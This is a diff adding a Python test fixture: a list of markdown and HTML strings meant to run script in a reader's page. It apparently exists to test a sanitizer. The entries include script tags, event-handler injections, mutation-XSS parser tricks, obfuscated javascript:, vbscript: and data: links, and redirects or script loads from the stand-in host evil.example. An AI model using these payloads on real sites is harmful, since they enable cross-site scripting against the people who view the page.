@@ -1,0 +1,27 @@
+"""Markdown that would act in the page of whoever opens it, by calling `owned`."""
+
+MARKDOWN = [
+    "<script>owned()</script>",
+    "Text <SCRIPT src=//evil.example></SCRIPT>",
+    "<img src=x onerror='owned()'>",
+    "<svg onload=owned()><animate onbegin=owned()></svg>",
+    "<svg><style><img src=x onerror=owned()></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=owned()&gt;'>",
+    "<iframe srcdoc='<script>owned()</script>'></iframe>",
+    "<form action=/grade><input name=score><button>!</button></form>",
+    "<object data=x></object><embed src=x><base href=//evil.example>",
+    "<link rel=stylesheet href=x><meta http-equiv=refresh content='0;//evil.example'>",
+    "[here](javascript:owned())",
+    "[here](java&#x0A;script&colon;owned())",
+    "<a href='&#1;java\tscript:owned()'>here</a>",
+    "<a href='data:text/html,<script>owned()</script>'>here</a>",
+    "<a href='vbscript:owned()'>here</a>",
+    "![](javascript:owned())",
+    "<p style='background: url(javascript:owned()); position: fixed'>over all</p>",
+    "<noscript><p title='</noscript><img src=x onerror=owned()>'></noscript>",
+    "```<script>owned()</script>\n<script>owned()</script>\n```",
+    "$x</script><script>owned()</script>$",
+    "<details open ontoggle=owned()>",
+    "<!--><script>owned()</script>-->",
+    "<!--- --!><script>owned()</script> -->",
+]
